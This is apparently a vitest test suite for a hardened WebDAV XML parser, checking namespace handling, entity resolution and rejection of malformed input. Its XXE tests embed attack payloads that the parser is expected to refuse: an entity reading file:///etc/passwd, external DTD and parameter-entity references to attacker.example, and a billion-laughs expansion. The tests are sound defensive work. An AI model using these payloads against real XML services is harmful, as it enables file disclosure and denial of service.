import { describe, expect, it } from "vitest";
import {
  DAV,
  DavXmlError,
  XML_NS,
  child,
  elements,
  parseDavXml,
  textOf,
  type XmlElement,
} from "./parse-xml.js";

const refused = (body: string, why?: RegExp) => {
  expect(() => parseDavXml(body), body).toThrow(DavXmlError);
  if (why) expect(() => parseDavXml(body), body).toThrow(why);
};

describe("parseDavXml", () => {
  it("gives undefined for an empty or blank body", () => {
    expect(parseDavXml("")).toBeUndefined();
    expect(parseDavXml(" \r\n\t")).toBeUndefined();
    expect(parseDavXml("\uFEFF")).toBeUndefined();
  });

  it("parses a PROPFIND with namespaces, declaration, comments and white space", () => {
    const el = parseDavXml(
      `<?xml version="1.0" encoding="utf-8" ?>\n<!-- a comment -->\n<D:propfind xmlns:D="DAV:">\n <D:prop><D:getetag/><x:foo xmlns:x="urn:x"/></D:prop>\n</D:propfind>\n`,
    ) as XmlElement;
    expect(el.ns).toBe(DAV);
    expect(el.name).toBe("propfind");
    const prop = child(el, DAV, "prop") as XmlElement;
    expect(elements(prop).map((e) => [e.ns, e.name])).toEqual([
      [DAV, "getetag"],
      ["urn:x", "foo"],
    ]);
    expect(child(el, DAV, "allprop")).toBeUndefined();
    expect(elements(prop)[1]?.declared).toEqual({ D: DAV, x: "urn:x" });
  });

  it('inherits the default namespace, and xmlns="" undeclares it', () => {
    const el = parseDavXml(
      `<propfind xmlns="DAV:"><prop><getetag/><foo xmlns=""><bar/></foo><z:q xmlns:z="urn:z"><r/></z:q></prop></propfind>`,
    ) as XmlElement;
    const prop = child(el, DAV, "prop") as XmlElement;
    const [etag, foo, q] = elements(prop) as [XmlElement, XmlElement, XmlElement];
    expect([etag.ns, etag.name]).toEqual([DAV, "getetag"]);
    expect([foo.ns, foo.name, foo.declared]).toEqual(["", "foo", {}]);
    expect(elements(foo)[0]?.ns).toBe("");
    expect(q.ns).toBe("urn:z");
    expect(elements(q)[0]?.ns).toBe(DAV);
  });

  it("keys attributes by {ns}name, unprefixed ones by their name (no namespace, not the default)", () => {
    const el = parseDavXml(
      `<a xmlns="urn:d" xmlns:p="urn:p" plain="1" p:q="2" xml:lang="en" />`,
    ) as XmlElement;
    expect(el.attrs).toEqual({ plain: "1", "{urn:p}q": "2", [`{${XML_NS}}lang`]: "en" });
    expect(el.ns).toBe("urn:d");
  });

  it("refuses the same attribute twice, by name or through two prefixes of one namespace", () => {
    refused(`<a x="1" x="2"/>`);
    refused(`<a xmlns:p="urn:x" xmlns:q="urn:x" p:x="1" q:x="2"/>`);
  });

  it("resolves the five predefined entities and numeric references, high Unicode included", () => {
    const el = parseDavXml(
      `<a t="&lt;&#9;&#10;x&#x9;y&quot;">&lt;&gt;&amp;&apos;&quot; &#65;&#x1F600; \u{1F600}<![CDATA[<not&a;tag>]]></a>`,
    ) as XmlElement;
    expect(textOf(el)).toBe(`<>&'" A\u{1F600} \u{1F600}<not&a;tag>`);
    expect(el.children).toHaveLength(1);
    expect(el.attrs.t).toBe('<\t\nx\ty"');
  });

  it("normalises line ends and white space in attribute values", () => {
    const el = parseDavXml(`<a t="1\r\n2\t3">x\r\ny\rz</a>`) as XmlElement;
    expect(el.attrs.t).toBe("1 2 3");
    expect(textOf(el)).toBe("x\ny\nz");
  });

  it("keeps mixed content in order", () => {
    const el = parseDavXml(`<a>1<b>2</b>3<c/><!--x-->4</a>`) as XmlElement;
    expect(el.children).toEqual([
      { text: "1" },
      { ns: "", name: "b", attrs: {}, children: [{ text: "2" }], declared: {} },
      { text: "3" },
      { ns: "", name: "c", attrs: {}, children: [], declared: {} },
      { text: "4" },
    ]);
  });

  it("takes names JavaScript objects know (constructor, __proto__) as plain names", () => {
    const el = parseDavXml(
      `<constructor xmlns:__proto__="urn:p" __proto__="1" toString="2"><__proto__:hasOwnProperty/></constructor>`,
    ) as XmlElement;
    expect(el.name).toBe("constructor");
    expect(Object.keys(el.attrs)).toEqual(["__proto__", "toString"]);
    expect(el.attrs.__proto__).toBe("1");
    expect(elements(el)[0]?.ns).toBe("urn:p");
    expect(Object.getPrototypeOf(el.attrs)).toBe(Object.prototype);
    // A prefix named like an Object.prototype member is not declared by being inherited.
    refused(`<constructor:a/>`);
    refused(`<toString:a/>`);
  });

  it("refuses XXE: an external entity, an external DTD, a parameter entity", () => {
    refused(
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
    );
    refused(
      `<!DOCTYPE propfind SYSTEM "http://attacker.example/evil.dtd"><propfind xmlns="DAV:"/>`,
    );
    refused(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><x/>`);
    refused(`<!doctype x><x/>`);
    refused(`<x>&e;</x>`);
  });

  it("refuses billion laughs without expanding anything", () => {
    const lol = [
      `<!ENTITY lol "lol">`,
      ...Array.from(
        { length: 9 },
        (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`,
      ),
    ].join("");
    const body = `<?xml version="1.0"?><!DOCTYPE lolz [${lol}]><lolz>&lol9;</lolz>`;
    const started = performance.now();
    refused(body, /DOCTYPE/);
    expect(performance.now() - started).toBeLessThan(100);
  });

  it("refuses undeclared prefixes, on elements and attributes", () => {
    refused(`<D:propfind/>`, /undeclared namespace prefix 'D'/);
    refused(`<a xmlns:x="urn:x"><x:b/><y:c/></a>`);
    refused(`<a y:b="1"/>`);
    // A prefix declared on a sibling is not in scope.
    refused(`<a><b xmlns:x="urn:x"/><x:c/></a>`);
  });

  it("refuses a prefix bound to the empty name, and misuse of xml/xmlns", () => {
    refused(`<x:a xmlns:x=""/>`, /empty name/);
    refused(`<a xmlns:xmlns="urn:x"/>`);
    refused(`<a xmlns:xml="urn:x"/>`);
    refused(`<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>`);
    refused(`<a xmlns="http://www.w3.org/2000/xmlns/"/>`);
    expect(parseDavXml(`<a xmlns:xml="http://www.w3.org/XML/1998/namespace"/>`)?.declared).toEqual(
      {},
    );
  });

  it("refuses names that are not qualified names", () => {
    refused(`<a:b:c xmlns:a="urn:a"/>`);
    refused(`<:a/>`);
    refused(`<a: xmlns:a="urn:a"/>`);
  });

  it("refuses processing instructions other than the XML declaration", () => {
    refused(`<?xml-stylesheet href="x"?><a/>`, /processing instructions/);
    refused(`<a><?php echo 1 ?></a>`, /processing instructions/);
    refused(`<a/><?pi?>`);
    refused(` <?xml version="1.0"?><a/>`);
    refused(`<?xml version="1.0"?><?xml version="1.0"?><a/>`);
    refused(`<?xml version="2.0"?><a/>`);
    refused(`<?xml encoding="utf-8"?><a/>`);
  });

  it.each([
    ["an unclosed element", `<D:propfind xmlns:D="DAV:"><D:prop>`],
    ["mismatched tags", `<a><b></a></b>`],
    ["a truncated body", `<D:propfind xmlns:D="DAV:"><D:prop><D:getetag/></D:pr`],
    ["two roots", `<a/><b/>`],
    ["text before the root", `x<a/>`],
    ["text after the root", `<a/>x`],
    ["text only", `hello`],
    ["'<' in an attribute value", `<a x="<"/>`],
    ["an unquoted attribute", `<a x=1/>`],
    ["an attribute without value", `<a x/>`],
    ["attributes not separated", `<a x="1"y="2"/>`],
    ["a bare &", `<a>fish & chips</a>`],
    ["an unterminated reference", `<a>&amp</a>`],
    ["a reference to a forbidden character", `<a>&#0;</a>`],
    ["a reference to a surrogate", `<a>&#xD800;</a>`],
    ["']]>' in text", `<a>]]></a>`],
    ["'--' in a comment", `<a><!-- a -- b --></a>`],
    ["an unterminated comment", `<a><!-- x</a>`],
    ["an unterminated CDATA section", `<a><![CDATA[x</a>`],
    ["a control character", `<a>\u0001</a>`],
    ["a lone surrogate", `<a>\uD800</a>`],
    ["a name starting with a digit", `<1a/>`],
    ["an ELEMENT declaration inside", `<a><!ELEMENT a ANY></a>`],
    ["a malformed end tag", `<a></a b>`],
    ["a space before the name", `< a/>`],
  ])("refuses a body that is not well-formed: %s", (_what, body) => {
    refused(body);
  });

  it("accepts the forms well-formed XML allows", () => {
    for (const body of [
      `<a  x = '1'   y="2" ></a >`,
      `<a x="a>b" y='c/>d'/>`,
      `<?xml version='1.0' encoding='UTF-8' standalone='yes'?><a/>`,
      `\uFEFF<a/>`,
      `<a>]]&gt; ]] ></a>`,
      `<a><!----></a>`,
      `<é:ü xmlns:é="urn:é">日本</é:ü>`,
    ]) {
      expect(() => parseDavXml(body), body).not.toThrow();
    }
  });

  it("refuses nesting deeper than the limit, without overflowing the stack", () => {
    refused(`${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}`, /nested too deeply/);
    expect(parseDavXml(`${"<a>".repeat(200)}${"</a>".repeat(200)}`)?.name).toBe("a");
  });
});
